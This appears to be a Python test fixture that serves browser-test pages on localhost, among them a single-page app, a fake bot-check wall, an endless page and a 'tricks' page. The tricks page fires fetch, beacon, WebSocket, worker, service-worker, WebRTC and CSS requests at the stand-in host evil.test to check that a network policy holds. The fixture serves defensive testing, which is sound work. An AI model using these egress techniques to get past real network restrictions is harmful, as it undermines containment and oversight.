"""Pages that need a browser, served on 127.0.0.1 for tests/test_browser.py: a single-page app that builds its
article from a fetch, a static article, a page that tries every way out of the network policy, a wall that clears
once JavaScript runs, and a page that never finishes loading.

Every "forbidden" address here is one the tests' policy refuses: ``evil.test`` resolves (by the tests' DNS) to a
private address, and ``FORBIDDEN`` is filled in with a real 127.0.0.1 server that counts the connections it gets,
so a request that slipped past the proxy would show as a count, not just as a missing log line.
"""

from __future__ import annotations

import socket
import threading

import anyio
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, RedirectResponse, Response, StreamingResponse
from starlette.routing import Route


class ConnectionCounter:
    """A TCP server on 127.0.0.1 that counts the connections it accepts and answers none: a request that went
    around the browser's proxy shows here as a count."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self.socket.getsockname()[1])
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


PARAGRAPH = "The harbour wall was built in 1820, rebuilt after the storm of 1953, and raised again in 2004. "
SPA = """<!doctype html><html><head><title>Harbour app</title></head><body><div id="root"></div>
<script>
fetch('/api/story').then(r => r.json()).then(story => {
  document.getElementById('root').innerHTML = '<article><h1>' + story.title + '</h1>' +
    story.paragraphs.map(p => '<p>' + p + '</p>').join('') + '</article>';
});
</script></body></html>"""
STATIC = (
    "<!doctype html><html><head><title>Static</title><script>var analytics = 1;</script></head><body><article>"
    "<h1>The wall</h1>" + f"<p>{PARAGRAPH * 3}</p>" * 4 + "</article></body></html>"
)
TRICKS = (
    """<!doctype html><html><head><title>Tricks</title>
<link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="http://evil.test">
<link rel="stylesheet" href="/tricks.css"></head><body>
<article><h1>Tricks</h1><p id="done">"""
    + PARAGRAPH * 3
    + """</p></article>
<iframe src="http://evil.test/frame"></iframe>
<img src="http://FORBIDDEN/img.png">
<script src="/redirect-to-evil.js"></script>
<script>
fetch('http://evil.test/fetch').catch(() => {});
fetch('http://FORBIDDEN/fetch').catch(() => {});
const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://10.0.0.5/xhr'); xhr.send();
navigator.sendBeacon('http://evil.test/beacon', 'x');
const code = "try { new WebSocket('ws://evil.test/ws'); } catch (e) {} " +
  "try { new WebSocket('ws://FORBIDDEN/ws'); } catch (e) {} fetch('http://FORBIDDEN/worker').catch(() => {});";
new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
if (navigator.serviceWorker) navigator.serviceWorker.register('/sw.js').catch(() => {});
try { new WebSocket('ws://FORBIDDEN/page-ws'); } catch (e) {}
try { new RTCPeerConnection({iceServers: [{urls: 'stun:FORBIDDEN'}]}).createDataChannel('x'); } catch (e) {}
location.hash = 'ran';
</script></body></html>"""
)
WALL = (
    """<!doctype html><html><head><title>Just a moment...</title></head><body>
<div id="challenge">Checking your browser before accessing the site. Enable JavaScript and cookies to continue.</div>
<script>
document.title = 'The harbour';
document.body.innerHTML = '<article><h1>Past the check</h1>' + '<p>"""
    + PARAGRAPH * 3
    + """</p>'.repeat(4) +
  '</article>';
</script></body></html>"""
)


def _forbidden(request: Request, page: str) -> str:
    return page.replace("FORBIDDEN", request.app.state.forbidden)


async def spa(request: Request) -> Response:
    return Response(SPA, media_type="text/html")


async def story(request: Request) -> Response:
    return JSONResponse({"title": "The harbour wall", "paragraphs": [PARAGRAPH * 3 for _ in range(4)]})


async def static(request: Request) -> Response:
    return Response(STATIC, media_type="text/html")


async def tricks(request: Request) -> Response:
    return Response(_forbidden(request, TRICKS), media_type="text/html")


async def tricks_css(request: Request) -> Response:
    return Response(_forbidden(request, "@import url(http://evil.test/x.css); @import url(http://FORBIDDEN/y.css);"),
                    media_type="text/css")  # fmt: skip


async def redirect_to_evil(request: Request) -> Response:
    return RedirectResponse("http://evil.test/s.js", status_code=302)


async def service_worker(request: Request) -> Response:
    return Response("self.addEventListener('fetch', e => e.respondWith(fetch('http://evil.test/sw')));",
                    media_type="text/javascript")  # fmt: skip


async def wall(request: Request) -> Response:
    return Response(WALL, media_type="text/html")


async def endless(request: Request) -> Response:
    async def drip():  # type: ignore[no-untyped-def]
        yield b"<!doctype html><html><body><p>Loading"
        while True:
            await anyio.sleep(0.5)
            yield b"."

    return StreamingResponse(drip(), media_type="text/html")


async def robots(request: Request) -> Response:
    return PlainTextResponse("User-agent: *\nDisallow: /private\n")


APP = Starlette(
    routes=[
        Route("/spa", spa),
        Route("/api/story", story),
        Route("/static", static),
        Route("/tricks", tricks),
        Route("/tricks.css", tricks_css),
        Route("/redirect-to-evil.js", redirect_to_evil),
        Route("/sw.js", service_worker),
        Route("/wall", wall),
        Route("/endless", endless),
        Route("/private", static),
        Route("/robots.txt", robots),
    ]
)
